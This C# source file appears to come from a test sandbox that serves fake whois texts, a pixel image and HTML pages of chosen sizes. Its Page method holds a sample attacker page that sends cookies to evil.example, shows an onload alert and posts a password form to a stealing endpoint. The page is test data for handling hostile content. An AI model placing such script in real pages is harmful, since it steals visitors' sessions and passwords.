using System.Globalization;
using System.Text;
using System.Text.RegularExpressions;
using ThreatEvents.Sandbox.Hosting;

namespace ThreatEvents.Sandbox.Resources;

/// <summary>
/// Serves whois texts, screenshots and page sources. A name such as <c>size-5000000.html</c> gives a file of that many bytes.
/// </summary>
internal sealed class ResourceRoute() : Route("GET", "/resources/{name}")
{
    private const int Largest = 200_000_000;

    private static readonly Regex Name =
        new(@"^(?:size-(?<size>[0-9]{1,9})|[0-9a-z]{1,64})\.(?<kind>txt|png|html)$", RegexOptions.CultureInvariant);

    // One transparent pixel.
    private static readonly byte[] Picture = Convert.FromBase64String(
        "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==");

    public override ValueTask<SandboxReply> HandleAsync(SandboxRequest request, CancellationToken cancellation)
    {
        var name = request.PathValues["name"];
        var match = Name.Match(name);
        if (!match.Success) throw RequestRefusal.NotFound("There is no such file.");
        var content = match.Groups["kind"].Value switch
        {
            "png" => Picture,
            "txt" => Encoding.UTF8.GetBytes(Whois(name)),
            _ => Encoding.UTF8.GetBytes(Page(name)),
        };
        var type = match.Groups["kind"].Value switch
        {
            "png" => "image/png",
            "txt" => "text/plain; charset=utf-8",
            _ => "text/html; charset=utf-8",
        };
        if (match.Groups["size"].Success) content = Repeat(content, int.Parse(match.Groups["size"].Value, CultureInfo.InvariantCulture));
        return new(new SandboxReply(200, type, content));
    }

    private static byte[] Repeat(byte[] content, int size)
    {
        if (size > Largest) throw new RequestRefusal(400, "INVALID_PARAMETER", "The file would be too large.", "name");
        var result = new byte[size];
        for (var i = 0; i < size; i += content.Length) Buffer.BlockCopy(content, 0, result, i, Math.Min(content.Length, size - i));
        return result;
    }

    private static string Whois(string name) =>
        $"% Whois text of {name}\r\nDomain Name: EXAMPLE.COM\r\nRegistrar: Nameshield\r\n"
        + "Registrant Name: Example owner\r\nRegistrant Email: owner@example.com\r\n"
        + "Creation Date: 1998-09-22T22:00:00Z\r\nDomain Status: clientTransferProhibited\r\nName Server: NS1.EXAMPLE.NET\r\n";

    // What an attacker's page holds; nobody may run it.
    private static string Page(string name) =>
        $"<!DOCTYPE html>\n<html><head><title>{name}</title><script>fetch('http://evil.example/?c='+document.cookie)</script></head>\n"
        + "<body onload=\"alert(1)\"><form action=\"http://evil.example/steal\"><input name=\"password\"></form>"
        + "\u001b[31m\u202E</body></html>\n";
}
